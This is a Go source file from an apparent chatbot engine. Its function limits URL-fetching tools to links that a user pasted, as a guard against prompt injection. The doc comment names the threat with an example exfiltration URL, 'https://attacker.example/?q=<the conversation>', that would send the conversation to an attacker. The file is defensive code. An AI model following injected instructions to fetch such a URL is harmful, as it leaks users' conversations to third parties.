package engine

import (
	"encoding/json"
	"slices"
	"strings"

	"mistralbot/bots"
	"mistralbot/bots/tools"
)

// pastedLink reports whether call may run as far as its URL goes: tools
// outside ToolOptions.PastedLinksOnly always may; the others only with a
// "url" argument that a person wrote in one of the prompt's user
// messages (the question, or the thread's history). The rule for
// fetch_url: "for a link the user pasted". A URL the model composed, or
// found in a page it fetched, is refused: prompt injection could
// otherwise have it fetch https://attacker.example/?q=<the conversation>.
func (s *toolStream) pastedLink(tool tools.Tool, call tools.Call) bool {
	if !slices.Contains(s.a.e.opts.Tools.PastedLinksOnly, tool.Name) {
		return true
	}
	var args struct {
		URL string `json:"url"`
	}
	if json.Unmarshal(call.Arguments, &args) != nil {
		return false
	}
	u := strings.TrimSpace(args.URL)
	if len(u) < len("http://x") {
		return false
	}
	// A link written with or without its trailing slash is the same
	// page to the person who pasted it.
	bare := strings.TrimSuffix(u, "/")
	for _, m := range s.req.Messages {
		if m.Role == bots.RoleUser && strings.Contains(m.Content, bare) {
			return true
		}
	}
	return false
}
